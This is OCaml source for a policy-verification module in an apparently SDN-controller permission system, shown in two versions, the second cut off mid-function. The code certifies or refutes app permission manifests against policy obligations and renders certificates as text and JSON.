