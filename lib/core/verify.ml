(* shield-verify: certify that (reconciled) manifests satisfy their
   policy obligations.  See verify.mli / docs/VERIFY.md.

   Architecture of one obligation check:

     1. lattice pass — Algorithm 1 ([Inclusion], via [Diff]) proves the
        obligation where it can.  Positive answers are sound
        (property-tested against the evaluation semantics), so they
        certify.
     2. witness pass — where the lattice answers "no", that answer is
        conservative and proves nothing.  [Diff] synthesizes candidate
        calls from the atoms of the filters under test, and accepts a
        candidate only when [Filter_eval] semantically confirms it
        (admitted by the manifest side, escaping the bound).  Only a
        confirmed call refutes.
     3. neither — unknown, which degrades the certificate to
        [Unverified].  The checker never certifies from a negative
        lattice answer and never refutes without a confirmed call.

   Assertions combine in three-valued logic: the lattice's
   conservative "false" must not flip into a false positive under
   [NOT] (the repair engine's boolean [eval_assert] is unsound there —
   which is precisely why verification cannot reuse it).

   On top of the obligations, the certificate carries a *minimality*
   dimension over the reconciliation repairs (ISSUE 10): for every
   truncation, the least repair the lattice admits is recomputed —
   MEET(original, boundary) for boundary violations, original \
   second-exclusive-set for exclusions — and [Diff] decides whether
   the actual repair stripped behaviour the least repair would have
   kept.  A confirmed call in that gap is Slack; a provably empty gap
   on every repair is Minimal; anything else fails closed to
   Unknown_minimality. *)

module M = Shield_controller.Metrics
module Api = Shield_controller.Api
module J = Shield_controller.Telemetry.Json

type witness = {
  token : Token.t;
  call : Api.call;
  admitted_by : Perm.manifest;
  escapes : Perm.manifest option;
  explanation : string;
}

type counterexample = {
  stmt : Policy.stmt;
  app : string option;
  witnesses : witness list;
  detail : string;
}

type status = Holds | Refuted_by of counterexample list | Unknown of string

type obligation = { index : int; stmt : Policy.stmt; status : status }

type minimality =
  | Minimal
  | Slack of witness list
  | Unknown_minimality of string

type crosscheck = {
  replayed : int;
  checkers_agree : bool;
  infer_consistent : bool;
  infer_traced : int;
  crosscheck_notes : string list;
}

type verdict =
  | Certified
  | Refuted of counterexample list
  | Unverified of string

type certificate = {
  verdict : verdict;
  minimality : minimality;
  obligations : obligation list;
  crosscheck : crosscheck;
  spent : Budget.spent;
  notes : string list;
}

let pure = Filter_eval.pure_env
let eval_f f attrs = Filter_eval.eval pure f attrs

(* Witness synthesis ---------------------------------------------------------

   The candidate machinery lives in [Diff]; verification wraps its
   anonymous witnesses into certificate witnesses that carry the
   manifests the claim is about. *)

(** A [Diff.diff ml mr] witness: admitted by [ml], escapes [mr]. *)
let escape_of (ml : Perm.manifest) (mr : Perm.manifest) (w : Diff.witness) :
    witness =
  { token = w.Diff.token;
    call = w.Diff.call;
    admitted_by = ml;
    escapes = Some mr;
    explanation =
      Fmt.str "admitted by %a (%s) but not by the bound (%s)" Token.pp
        w.Diff.token w.Diff.why_left w.Diff.why_right }

(** A [Diff.overlap m mx] witness: admitted by both sides. *)
let overlap_of (m : Perm.manifest) (w : Diff.witness) : witness =
  { token = w.Diff.token;
    call = w.Diff.call;
    admitted_by = m;
    escapes = None;
    explanation =
      Fmt.str "admitted by the app's %a grant (%s) and by the exclusive set \
               (%s)"
        Token.pp w.Diff.token w.Diff.why_left w.Diff.why_right }

(* Obligation checking ------------------------------------------------------- *)

(** [check_le stmt app ml mr] — the obligation [ml <= mr].  [Diff]'s
    [Empty] certifies (sound lattice proof); a confirmed escape
    refutes; [Unknown] stays unknown (fail closed). *)
let check_le stmt app (ml : Perm.manifest) (mr : Perm.manifest) : status =
  match Diff.diff ~max_witnesses:1 ml mr with
  | Diff.Empty -> Holds
  | Diff.Nonempty ws ->
    Refuted_by
      [ { stmt; app;
          witnesses = List.map (escape_of ml mr) (Diff.dedup ws);
          detail =
            Fmt.str "%a: %a call escapes the bound" Policy.pp_stmt stmt
              Token.pp (List.hd ws).Diff.token } ]
  | Diff.Unknown r -> Unknown r

let combine_eq a b =
  match (a, b) with
  | Refuted_by c1, Refuted_by c2 -> Refuted_by (c1 @ c2)
  | (Refuted_by _ as r), _ | _, (Refuted_by _ as r) -> r
  | Holds, Holds -> Holds
  | Unknown r, _ | _, Unknown r -> Unknown r

(** Strict comparison: on top of a certified [ml <= mr], strictness
    needs a semantic witness in [mr \ ml] — the lattice's negative
    answer to [mr <= ml] is conservative and proves nothing.  A
    provably empty difference means the sides are equal, so strictness
    definitely fails — but a failed strict comparison has no
    single-call counterexample and [Refuted_by] promises one, so that
    too stays unknown. *)
let check_strict stmt app ml mr : status =
  match check_le stmt app ml mr with
  | Holds -> (
    match Diff.diff ~max_witnesses:1 mr ml with
    | Diff.Nonempty _ -> Holds
    | Diff.Empty ->
      Unknown
        "inclusion holds both ways (the sides are provably equal), so the \
         strict comparison fails — but a strictness failure has no \
         call-level counterexample"
    | Diff.Unknown _ ->
      Unknown
        "inclusion holds but strictness is not witnessed (no call found in \
         the difference)")
  | s -> s

let check_cmp env stmt lhs op rhs : status =
  match
    (Reconcile.Env.manifest_of env lhs, Reconcile.Env.manifest_of env rhs)
  with
  | Error msg, _ | _, Error msg -> Unknown ("policy evaluation: " ^ msg)
  | Ok (ml, al), Ok (mr, ar) -> (
    match op with
    | Policy.C_le -> check_le stmt al ml mr
    | Policy.C_ge -> check_le stmt ar mr ml
    | Policy.C_eq -> combine_eq (check_le stmt al ml mr) (check_le stmt ar mr ml)
    | Policy.C_lt -> check_strict stmt al ml mr
    | Policy.C_gt -> check_strict stmt ar mr ml)

(* Three-valued assertion combination.  [T] and refutations are both
   semantically grounded and may flip under NOT; [U] is sticky. *)
type tv = T | F of counterexample list | U of string

let tv_of_status = function
  | Holds -> T
  | Refuted_by c -> F c
  | Unknown r -> U r

let rec eval3 env stmt (ae : Policy.assert_expr) : tv =
  Budget.step ();
  match ae with
  | Policy.A_cmp (l, op, r) -> tv_of_status (check_cmp env stmt l op r)
  | Policy.A_and (a, b) -> (
    match eval3 env stmt a with
    | F c -> F c
    | ra -> (
      match eval3 env stmt b with
      | F c -> F c
      | rb -> (
        match (ra, rb) with
        | U r, _ | _, U r -> U r
        | _ -> T)))
  | Policy.A_or (a, b) -> (
    match eval3 env stmt a with
    | T -> T
    | ra -> (
      match eval3 env stmt b with
      | T -> T
      | rb -> (
        match (ra, rb) with
        | F c1, F c2 -> F (c1 @ c2) (* both disjuncts refuted *)
        | U r, _ | _, U r -> U r
        | T, _ | _, T -> T (* unreachable: T short-circuits above *))))
  | Policy.A_not a -> (
    match eval3 env stmt a with
    | F _ -> T (* operand semantically refuted ⇒ negation holds *)
    | T ->
      (* The negated comparison certifiably holds, so this assertion is
         false — but a negated obligation has no single-call
         counterexample, and Refuted promises one.  Fail closed. *)
      U
        "NOT: the negated comparison certifiably holds (assertion is \
         unsatisfiable); no call-level counterexample exists"
    | U r -> U ("NOT: " ^ r))

let check_exclusive env stmt p1 p2 : status =
  match (Reconcile.Env.manifest_of env p1, Reconcile.Env.manifest_of env p2) with
  | Error msg, _ | _, Error msg -> Unknown ("policy evaluation: " ^ msg)
  | Ok (m1, _), Ok (m2, _) ->
    let refuted, unknowns =
      List.fold_left
        (fun (refuted, unknowns) (name, m) ->
          (* [Diff.overlap]'s [Empty] is a sound emptiness proof, so
             either non-overlap certifies this app. *)
          match Diff.overlap ~max_witnesses:1 m m1 with
          | Diff.Empty -> (refuted, unknowns)
          | o1 -> (
            match (o1, Diff.overlap ~max_witnesses:1 m m2) with
            | _, Diff.Empty -> (refuted, unknowns)
            | Diff.Nonempty (w1 :: _), Diff.Nonempty (w2 :: _) ->
              ( { stmt; app = Some name;
                  witnesses = [ overlap_of m w1; overlap_of m w2 ];
                  detail =
                    Fmt.str
                      "app %s holds behaviours from both exclusive sets (%a, \
                       %a)"
                      name Token.pp w1.Diff.token Token.pp w2.Diff.token }
                :: refuted,
                unknowns )
            | _ ->
              ( refuted,
                Fmt.str
                  "app %s: overlap with both exclusive sets is neither \
                   provably empty nor witnessed"
                  name
                :: unknowns )))
        ([], []) (Reconcile.Env.apps env)
    in
    if refuted <> [] then Refuted_by (List.rev refuted)
    else if unknowns <> [] then Unknown (String.concat "; " (List.rev unknowns))
    else Holds

(* Minimality of repair -------------------------------------------------------

   Sufficiency (the obligations above) says the repaired manifests
   satisfy the policy; minimality says repair did not over-truncate.
   The least repair the lattice admits is recomputed independently of
   [Reconcile]'s simplification step, so a bug there — or a torn
   [after] recorded in the report — shows up as a confirmed Slack
   call. *)

(** The least repair for one truncation, recomputed from the
    violation's [before] manifest and the statement's own bound. *)
let least_repair env (v : Reconcile.violation) : (Perm.manifest, string) result
    =
  match (v.Reconcile.action, v.Reconcile.stmt) with
  | ( Reconcile.Truncated_to_boundary,
      Policy.Assert (Policy.A_cmp (_, (Policy.C_le | Policy.C_lt), rhs)) ) -> (
    match Reconcile.Env.manifest_of env rhs with
    | Ok (bound, _) -> Ok (Perm_ops.meet v.Reconcile.before bound)
    | Error msg -> Error ("boundary evaluation: " ^ msg))
  | Reconcile.Truncated_to_boundary, _ ->
    Error "boundary truncation recorded on an unrecognized statement shape"
  | Reconcile.Truncated_exclusive, Policy.Assert_exclusive (_, p2) -> (
    match Reconcile.Env.manifest_of env p2 with
    | Ok (m2, _) -> Ok (Perm_ops.subtract v.Reconcile.before m2)
    | Error msg -> Error ("exclusive-set evaluation: " ^ msg))
  | Reconcile.Truncated_exclusive, _ ->
    Error "exclusive truncation recorded on an unrecognized statement shape"
  | (Reconcile.Alert_only | Reconcile.Policy_error), _ ->
    Error "not a truncation repair"

let slack_of ~least ~(after : Perm.manifest) (w : Diff.witness) : witness =
  { token = w.Diff.token;
    call = w.Diff.call;
    admitted_by = least;
    escapes = Some after;
    explanation =
      Fmt.str
        "allowed by the least repair for %a (%s) but stripped by the actual \
         repair (%s)"
        Token.pp w.Diff.token w.Diff.why_left w.Diff.why_right }

(** Fold the per-repair verdicts: any confirmed Slack wins (the repair
    provably stripped legitimate behaviour); otherwise any [Unknown]
    sticks (fail closed); only all-[Empty] — including the vacuous
    no-repairs case — is [Minimal]. *)
let check_minimality env (repairs : Reconcile.violation list) : minimality =
  let slack = ref [] in
  let unknown = ref None in
  let note_unknown r = if !unknown = None then unknown := Some r in
  List.iter
    (fun (v : Reconcile.violation) ->
      match v.Reconcile.action with
      | Reconcile.Alert_only | Reconcile.Policy_error -> ()
      | Reconcile.Truncated_to_boundary | Reconcile.Truncated_exclusive -> (
        let analyze () =
          match least_repair env v with
          | Error msg -> note_unknown msg
          | Ok least -> (
            match Diff.diff least v.Reconcile.after with
            | Diff.Empty -> ()
            | Diff.Nonempty ws ->
              slack :=
                !slack
                @ List.map (slack_of ~least ~after:v.Reconcile.after) ws
            | Diff.Unknown r -> note_unknown r)
        in
        (* [Diff.diff] never raises, but recomputing the least repair
           ([Env.manifest_of], [Perm_ops.meet]/[subtract]) ticks the
           budget and normalizes filters. *)
        match analyze () with
        | () -> ()
        | exception Budget.Exhausted { reason; _ } ->
          note_unknown ("budget exhausted: " ^ reason)
        | exception Nf.Too_large ->
          note_unknown "normal form too large; minimality degraded"
        | exception Stack_overflow ->
          note_unknown "stack overflow during minimality analysis"
        | exception exn ->
          note_unknown ("internal error: " ^ Printexc.to_string exn)))
    repairs;
  match Diff.dedup ~cap:8 !slack with
  | _ :: _ as ws -> Slack ws
  | [] -> (
    match !unknown with
    | Some r -> Unknown_minimality r
    | None -> Minimal)

(* Checker cross-check ------------------------------------------------------- *)

let decision_allows = function Api.Allow -> true | Api.Deny _ -> false

(** What [Filter_eval] says a manifest decides for a call — the
    semantic ground truth the three checkers are compared against. *)
let expected_decision (m : Perm.manifest) (call : Api.call) : bool =
  match Dispatch.token_of_call call with
  | None -> true
  | Some t ->
    Perm.grants_token m t && eval_f (Perm.filter_of m t) (Attrs.of_call call)

type trio = {
  engine : Engine.t option;
  compiled : Compiled.t option;
  automaton : Automaton.t option;
}

let build_trio notes (m : Perm.manifest) : trio =
  let engine =
    match
      Engine.create ~record_state:false ~ownership:(Ownership.create ())
        ~app_name:"verify" ~cookie:1 m
    with
    | e -> Some e
    | exception Invalid_argument msg ->
      notes := Fmt.str "engine replay skipped: %s" msg :: !notes;
      None
  in
  let compiled =
    match Compiled.of_manifest m with
    | c -> Some c
    | exception _ -> None
  in
  let automaton =
    match Automaton.of_manifest m with
    | a -> Some a
    | exception _ -> None
  in
  { engine; compiled; automaton }

let run_crosscheck ~(apps : (string * Perm.manifest) list)
    ~(obligations : obligation list) ~(extra : witness list) : crosscheck =
  let notes = ref [] in
  let agree = ref true in
  let replayed = ref 0 in
  let replay (m : Perm.manifest) (call : Api.call) =
    let want = expected_decision m call in
    let trio = build_trio notes m in
    let one label decide =
      incr replayed;
      let got = decision_allows (decide call) in
      if got <> want then begin
        agree := false;
        notes :=
          Fmt.str "%s disagrees with Filter_eval on %a (got %s, expected %s)"
            label Api.pp_call call
            (if got then "allow" else "deny")
            (if want then "allow" else "deny")
          :: !notes
      end
    in
    Option.iter (fun e -> one "engine" (Engine.check e)) trio.engine;
    Option.iter (fun c -> one "compiled" (Compiled.check c)) trio.compiled;
    Option.iter (fun a -> one "automaton" (Automaton.check a)) trio.automaton
  in
  (* Every synthesized witness is replayed against the manifest that
     admits it and (for boundary escapes and repair slack) against the
     bound it escapes — a differential test of all three checkers on
     exactly the calls verification's verdict rests on. *)
  let witnesses =
    extra
    @ List.concat_map
        (fun o ->
          match o.status with
          | Refuted_by cs -> List.concat_map (fun c -> c.witnesses) cs
          | _ -> [])
        obligations
  in
  List.iter
    (fun w ->
      replay w.admitted_by w.call;
      Option.iter (fun bound -> replay bound w.call) w.escapes)
    witnesses;
  (* Least-privilege cross-check: sample calls each app's manifest
     admits, infer a manifest from that trace, and hold Infer to its
     guarantee — the inferred manifest re-admits every recorded call. *)
  let infer_ok = ref true in
  let traced = ref 0 in
  List.iter
    (fun (name, m) ->
      let sample =
        List.filter_map
          (fun (p : Perm.t) ->
            let fl = p.Perm.filter in
            Diff.find_call ~filters:[ fl ] p.Perm.token ~goal:(eval_f fl)
            |> Option.map fst)
          m
      in
      let from_witnesses =
        List.filter_map
          (fun (w : witness) ->
            if expected_decision m w.call then Some w.call else None)
          witnesses
      in
      let trace = sample @ from_witnesses in
      if trace <> [] then begin
        traced := !traced + List.length trace;
        let inferred = Infer.of_trace trace in
        List.iter
          (fun call ->
            if not (expected_decision inferred call) then begin
              infer_ok := false;
              notes :=
                Fmt.str
                  "inferred least-privilege manifest for app %s fails to \
                   re-admit %a"
                  name Api.pp_call call
                :: !notes
            end)
          trace
      end)
    apps;
  { replayed = !replayed;
    checkers_agree = !agree;
    infer_consistent = !infer_ok;
    infer_traced = !traced;
    crosscheck_notes = List.rev !notes }

(* Verdict counters ---------------------------------------------------------- *)

type stats = {
  certified_n : int;
  refuted_n : int;
  unverified_n : int;
  minimal_n : int;
  slack_n : int;
  unknown_minimality_n : int;
}

let counters_mutex = Mutex.create ()
let certified_c = ref 0
let refuted_c = ref 0
let unverified_c = ref 0
let minimal_c = ref 0
let slack_c = ref 0
let unknown_min_c = ref 0
let gauge_of_counter c () = { M.depth = !c; hwm = !c }

let () =
  M.register_gauge "verify-certified" (gauge_of_counter certified_c);
  M.register_gauge "verify-refuted" (gauge_of_counter refuted_c);
  M.register_gauge "verify-unverified" (gauge_of_counter unverified_c);
  M.register_gauge "verify-minimal" (gauge_of_counter minimal_c);
  M.register_gauge "verify-slack" (gauge_of_counter slack_c);
  M.register_gauge "verify-unknown-minimality" (gauge_of_counter unknown_min_c)

let count_certificate cert =
  Mutex.lock counters_mutex;
  (match cert.verdict with
  | Certified -> incr certified_c
  | Refuted _ -> incr refuted_c
  | Unverified _ -> incr unverified_c);
  (match cert.minimality with
  | Minimal -> incr minimal_c
  | Slack _ -> incr slack_c
  | Unknown_minimality _ -> incr unknown_min_c);
  Mutex.unlock counters_mutex

let stats () =
  Mutex.lock counters_mutex;
  let s =
    { certified_n = !certified_c;
      refuted_n = !refuted_c;
      unverified_n = !unverified_c;
      minimal_n = !minimal_c;
      slack_n = !slack_c;
      unknown_minimality_n = !unknown_min_c }
  in
  Mutex.unlock counters_mutex;
  s

let reset_stats () =
  Mutex.lock counters_mutex;
  certified_c := 0;
  refuted_c := 0;
  unverified_c := 0;
  minimal_c := 0;
  slack_c := 0;
  unknown_min_c := 0;
  Mutex.unlock counters_mutex

(* Driver -------------------------------------------------------------------- *)

let empty_crosscheck note =
  { replayed = 0;
    checkers_agree = false;
    infer_consistent = false;
    infer_traced = 0;
    crosscheck_notes = [ note ] }

let verify ?limits ?(repairs = []) ~(apps : (string * Perm.manifest) list)
    (policy : Policy.t) : certificate =
  let b = Budget.create ?limits () in
  let cert =
    match
      Budget.with_scope b (fun () ->
          Budget.set_stage "verify";
          let env = Reconcile.Env.create ~apps policy in
          let obligations =
            List.mapi (fun i stmt -> (i, stmt)) policy
            |> List.filter_map (fun (index, stmt) ->
                   let guarded check =
                     match check () with
                     | s -> s
                     | exception Budget.Exhausted { reason; _ } ->
                       Unknown ("budget exhausted: " ^ reason)
                     | exception Nf.Too_large ->
                       Unknown "normal form too large; check degraded"
                     | exception Stack_overflow ->
                       Unknown "stack overflow during obligation check"
                     | exception exn ->
                       Unknown ("internal error: " ^ Printexc.to_string exn)
                   in
                   match stmt with
                   | Policy.Let _ -> None
                   | Policy.Assert ae ->
                     let status =
                       guarded (fun () ->
                           match eval3 env stmt ae with
                           | T -> Holds
                           | F c -> Refuted_by c
                           | U r -> Unknown r)
                     in
                     Some { index; stmt; status }
                   | Policy.Assert_exclusive (p1, p2) ->
                     let status =
                       guarded (fun () -> check_exclusive env stmt p1 p2)
                     in
                     Some { index; stmt; status })
          in
          Budget.set_stage "minimality";
          let minimality =
            match check_minimality env repairs with
            | m -> m
            | exception Budget.Exhausted { reason; _ } ->
              Unknown_minimality ("budget exhausted: " ^ reason)
            | exception exn ->
              Unknown_minimality
                ("internal error: " ^ Printexc.to_string exn)
          in
          Budget.set_stage "crosscheck";
          let extra = match minimality with Slack ws -> ws | _ -> [] in
          let crosscheck =
            match run_crosscheck ~apps ~obligations ~extra with
            | cc -> cc
            | exception Budget.Exhausted { reason; _ } ->
              empty_crosscheck ("budget exhausted during cross-check: " ^ reason)
            | exception exn ->
              empty_crosscheck
                ("internal error during cross-check: " ^ Printexc.to_string exn)
          in
          let refuted =
            List.concat_map
              (fun o ->
                match o.status with Refuted_by cs -> cs | _ -> [])
              obligations
          in
          let unknowns =
            List.filter_map
              (fun o ->
                match o.status with
                | Unknown r -> Some (Fmt.str "obligation %d: %s" o.index r)
                | _ -> None)
              obligations
          in
          let verdict =
            if refuted <> [] then Refuted refuted
            else
              match unknowns with
              | r :: _ -> Unverified r
              | [] ->
                if not crosscheck.checkers_agree then
                  Unverified "checker cross-check failed (see notes)"
                else if not crosscheck.infer_consistent then
                  Unverified "least-privilege inference cross-check failed"
                else Certified
          in
          { verdict;
            minimality;
            obligations;
            crosscheck;
            spent = Budget.spent b;
            notes = Budget.notes b })
    with
    | cert -> cert
    | exception Budget.Exhausted { reason; _ } ->
      { verdict = Unverified ("budget exhausted: " ^ reason);
        minimality = Unknown_minimality "verification aborted";
        obligations = [];
        crosscheck = empty_crosscheck "verification aborted";
        spent = Budget.spent b;
        notes = Budget.notes b }
    | exception exn ->
      { verdict = Unverified ("internal error: " ^ Printexc.to_string exn);
        minimality = Unknown_minimality "verification aborted";
        obligations = [];
        crosscheck = empty_crosscheck "verification aborted";
        spent = Budget.spent b;
        notes = Budget.notes b }
  in
  count_certificate cert;
  cert

let verify_report ?limits (policy : Policy.t) (report : Reconcile.report) :
    certificate =
  let cert =
    verify ?limits ~repairs:report.Reconcile.violations
      ~apps:report.Reconcile.manifests policy
  in
  match report.Reconcile.unresolved_macros with
  | [] -> cert
  | ms ->
    let note =
      Fmt.str "unresolved stub macro(s) in %s: their atoms deny-close under \
               evaluation"
        (String.concat ", " (List.map fst ms))
    in
    { cert with notes = cert.notes @ [ note ] }

let certified cert = cert.verdict = Certified

let verdict_label cert =
  match cert.verdict with
  | Certified -> "certified"
  | Refuted _ -> "refuted"
  | Unverified _ -> "unverified"

let minimality_label cert =
  match cert.minimality with
  | Minimal -> "minimal"
  | Slack _ -> "slack"
  | Unknown_minimality _ -> "unknown"

(* Rendering ----------------------------------------------------------------- *)

let pp_witness ppf (w : witness) =
  Fmt.pf ppf "@[<v2>%a:@,%s@]" Api.pp_call w.call w.explanation

let pp_counterexample ppf (c : counterexample) =
  Fmt.pf ppf "@[<v2>%s%s:@,%a@]" c.detail
    (match c.app with Some a -> Fmt.str " [app %s]" a | None -> "")
    Fmt.(list pp_witness)
    c.witnesses

let status_label = function
  | Holds -> "holds"
  | Refuted_by _ -> "refuted"
  | Unknown _ -> "unknown"

let pp_obligation ppf (o : obligation) =
  Fmt.pf ppf "@[<v2>#%d [%s] %a%a@]" o.index (status_label o.status)
    Policy.pp_stmt o.stmt
    (fun ppf -> function
      | Holds -> ()
      | Unknown r -> Fmt.pf ppf "@,%s" r
      | Refuted_by cs -> Fmt.pf ppf "@,%a" Fmt.(list pp_counterexample) cs)
    o.status

let pp_minimality ppf = function
  | Minimal -> Fmt.pf ppf "minimality: minimal (no repair stripped behaviour \
                           the policy would have allowed)"
  | Slack ws ->
    Fmt.pf ppf "@[<v2>minimality: SLACK — %d call(s) the least repair keeps \
                but the actual repair strips:@,%a@]"
      (List.length ws)
      Fmt.(list pp_witness)
      ws
  | Unknown_minimality r -> Fmt.pf ppf "minimality: unknown (%s)" r

let pp_certificate ppf (cert : certificate) =
  Fmt.pf ppf "@[<v>verdict: %s%a@,%a@,%a@,cross-check: %d replay(s), checkers \
              %s, inference %s (%d call(s))%a%a@]"
    (verdict_label cert)
    (fun ppf -> function
      | Unverified r -> Fmt.pf ppf " (%s)" r
      | _ -> ())
    cert.verdict pp_minimality cert.minimality
    Fmt.(list pp_obligation)
    cert.obligations cert.crosscheck.replayed
    (if cert.crosscheck.checkers_agree then "agree" else "DISAGREE")
    (if cert.crosscheck.infer_consistent then "consistent" else "INCONSISTENT")
    cert.crosscheck.infer_traced
    (fun ppf -> function
      | [] -> ()
      | notes -> Fmt.pf ppf "@,%a" Fmt.(list (fmt "note: %s")) notes)
    (cert.crosscheck.crosscheck_notes @ cert.notes)
    (fun ppf (s : Budget.spent) -> Fmt.pf ppf "@,budget: %a" Budget.pp_spent s)
    cert.spent

let json_of_witness (w : witness) : J.t =
  J.Obj
    [ ("token", J.Str (Token.to_string w.token));
      ("call", J.Str (Fmt.str "%a" Api.pp_call w.call));
      ("explanation", J.Str w.explanation) ]

let json_of_counterexample (c : counterexample) : J.t =
  J.Obj
    [ ("stmt", J.Str (Fmt.str "%a" Policy.pp_stmt c.stmt));
      ("app", match c.app with Some a -> J.Str a | None -> J.Null);
      ("detail", J.Str c.detail);
      ("witnesses", J.Arr (List.map json_of_witness c.witnesses)) ]

let json_of_obligation (o : obligation) : J.t =
  J.Obj
    (( "index", J.Num (float_of_int o.index) )
    :: ("stmt", J.Str (Fmt.str "%a" Policy.pp_stmt o.stmt))
    :: ("status", J.Str (status_label o.status))
    ::
    (match o.status with
    | Holds -> []
    | Unknown r -> [ ("reason", J.Str r) ]
    | Refuted_by cs ->
      [ ("counterexamples", J.Arr (List.map json_of_counterexample cs)) ]))

let json_of_minimality (m : minimality) : J.t =
  J.Obj
    (( "status",
       J.Str
         (match m with
         | Minimal -> "minimal"
         | Slack _ -> "slack"
         | Unknown_minimality _ -> "unknown") )
    ::
    (match m with
    | Minimal -> []
    | Slack ws -> [ ("witnesses", J.Arr (List.map json_of_witness ws)) ]
    | Unknown_minimality r -> [ ("reason", J.Str r) ]))

let json_of_certificate (cert : certificate) : J.t =
  J.Obj
    [ ("verdict", J.Str (verdict_label cert));
      ( "reason",
        match cert.verdict with
        | Unverified r -> J.Str r
        | _ -> J.Null );
      ("minimality", json_of_minimality cert.minimality);
      ("obligations", J.Arr (List.map json_of_obligation cert.obligations));
      ( "counterexamples",
        match cert.verdict with
        | Refuted cs -> J.Arr (List.map json_of_counterexample cs)
        | _ -> J.Arr [] );
      ( "crosscheck",
        J.Obj
          [ ("replayed", J.Num (float_of_int cert.crosscheck.replayed));
            ("checkers_agree", J.Bool cert.crosscheck.checkers_agree);
            ("infer_consistent", J.Bool cert.crosscheck.infer_consistent);
            ("infer_traced", J.Num (float_of_int cert.crosscheck.infer_traced));
            ( "notes",
              J.Arr
                (List.map (fun n -> J.Str n) cert.crosscheck.crosscheck_notes)
            ) ] );
      ( "spent",
        J.Obj
          [ ("steps", J.Num (float_of_int cert.spent.Budget.steps));
            ("clauses", J.Num (float_of_int cert.spent.Budget.clauses));
            ("nodes", J.Num (float_of_int cert.spent.Budget.nodes));
            ("elapsed", J.Num cert.spent.Budget.elapsed) ] );
      ("notes", J.Arr (List.map (fun n -> J.Str n) cert.notes)) ]
