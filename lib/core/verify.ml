(* shield-verify: certify that (reconciled) manifests satisfy their
   policy obligations.  See verify.mli / docs/VERIFY.md.

   Architecture of one obligation check:

     1. lattice pass — Algorithm 1 ([Inclusion]) proves the obligation
        where it can.  Positive answers are sound (property-tested
        against the evaluation semantics), so they certify.
     2. witness pass — where the lattice answers "no", that answer is
        conservative and proves nothing.  We synthesize candidate
        calls from the atoms of the filters under test, and accept a
        candidate only when [Filter_eval] semantically confirms it
        (admitted by the manifest side, escaping the bound).  Only a
        confirmed call refutes.
     3. neither — unknown, which degrades the certificate to
        [Unverified].  The checker never certifies from a negative
        lattice answer and never refutes without a confirmed call.

   Assertions combine in three-valued logic: the lattice's
   conservative "false" must not flip into a false positive under
   [NOT] (the repair engine's boolean [eval_assert] is unsound there —
   which is precisely why verification cannot reuse it). *)

open Shield_openflow
module M = Shield_controller.Metrics
module Api = Shield_controller.Api
module J = Shield_controller.Telemetry.Json

type witness = {
  token : Token.t;
  call : Api.call;
  admitted_by : Perm.manifest;
  escapes : Perm.manifest option;
  explanation : string;
}

type counterexample = {
  stmt : Policy.stmt;
  app : string option;
  witnesses : witness list;
  detail : string;
}

type status = Holds | Refuted_by of counterexample list | Unknown of string

type obligation = { index : int; stmt : Policy.stmt; status : status }

type crosscheck = {
  replayed : int;
  checkers_agree : bool;
  infer_consistent : bool;
  infer_traced : int;
  crosscheck_notes : string list;
}

type verdict =
  | Certified
  | Refuted of counterexample list
  | Unverified of string

type certificate = {
  verdict : verdict;
  obligations : obligation list;
  crosscheck : crosscheck;
  spent : Budget.spent;
  notes : string list;
}

let pure = Filter_eval.pure_env
let eval_f f attrs = Filter_eval.eval pure f attrs

(* Candidate synthesis ------------------------------------------------------

   A witness search enumerates concrete calls and keeps the first one
   [Filter_eval] confirms.  The candidate space is seeded from the
   atoms of the filters under comparison: every predicate contributes
   its exact value, its subnet form and a value just outside its
   range; priority bounds contribute their boundary and the first
   value past it; topology sets contribute members and a non-member;
   and so on.  For a violated obligation the violating region is
   almost always delimited by the atoms of the two filters, so this
   small atom-derived frontier finds the witness without anything like
   SMT.  Every candidate costs one budget tick; searches are also
   hard-capped, so adversarial filters degrade to Unknown instead of
   to a scan. *)

type cand_val = C_ipm of Match_fields.ip_match | C_int of int

type cands = {
  mutable per_field : (Filter.field * cand_val) list;
  mutable prios : int list;
  mutable dpids : int list;
  mutable actsets : Action.t list list;
  mutable levels : Stats.level list;
}

let add_uniq x xs = if List.mem x xs then xs else xs @ [ x ]

let set_field_for (f : Filter.field) : Action.set_field option =
  match f with
  | Filter.F_eth_src -> Some (Action.Set_dl_src 0xBEEF)
  | Filter.F_eth_dst -> Some (Action.Set_dl_dst 0xBEEF)
  | Filter.F_ip_src -> Some (Action.Set_nw_src 0x0A000063l)
  | Filter.F_ip_dst -> Some (Action.Set_nw_dst 0x0A000063l)
  | Filter.F_tcp_src -> Some (Action.Set_tp_src 4242)
  | Filter.F_tcp_dst -> Some (Action.Set_tp_dst 4242)
  | _ -> None

let harvest (filters : Filter.expr list) : cands =
  let c =
    { per_field = []; prios = []; dpids = []; actsets = []; levels = [] }
  in
  let add_field f v = c.per_field <- add_uniq (f, v) c.per_field in
  let one (s : Filter.singleton) =
    match s with
    | Filter.Pred { field; value = Filter.V_ip a; mask } ->
      let m = Option.value mask ~default:0xFFFFFFFFl in
      add_field field (C_ipm (Match_fields.exact_ip a));
      add_field field (C_ipm { Match_fields.addr = Int32.logand a m; mask = m });
      (* A value just outside the range: flip one bit the mask fixes. *)
      if m <> 0l then begin
        let bit = Int32.logand m (Int32.neg m) in
        add_field field (C_ipm (Match_fields.exact_ip (Int32.logxor a bit)))
      end
    | Filter.Pred { field; value = Filter.V_int v; _ } ->
      add_field field (C_int v);
      add_field field (C_int (v + 1))
    | Filter.Wildcard { field; mask } when Filter.is_ip_field field ->
      (* Constrains the field while keeping the mask bits wildcarded. *)
      add_field field
        (C_ipm { Match_fields.addr = 0l; mask = Int32.lognot mask })
    | Filter.Wildcard _ -> ()
    | Filter.Max_priority n ->
      c.prios <- add_uniq n c.prios;
      if n < 65535 then c.prios <- add_uniq (n + 1) c.prios
    | Filter.Min_priority n ->
      c.prios <- add_uniq n c.prios;
      if n > 0 then c.prios <- add_uniq (n - 1) c.prios
    | Filter.Phys_topo { switches; _ } ->
      Option.iter
        (fun d -> c.dpids <- add_uniq d c.dpids)
        (Filter.Int_set.min_elt_opt switches);
      Option.iter
        (fun d ->
          c.dpids <- add_uniq d c.dpids;
          c.dpids <- add_uniq (d + 1) c.dpids)
        (Filter.Int_set.max_elt_opt switches)
    | Filter.Virt_topo Filter.Single_big_switch ->
      c.dpids <- add_uniq Filter_eval.virtual_big_switch_dpid c.dpids
    | Filter.Virt_topo (Filter.Switch_groups groups) ->
      List.iter (fun (_, vid) -> c.dpids <- add_uniq vid c.dpids) groups
    | Filter.Stats_level l -> c.levels <- add_uniq l c.levels
    | Filter.Action_f Filter.A_drop -> c.actsets <- add_uniq [] c.actsets
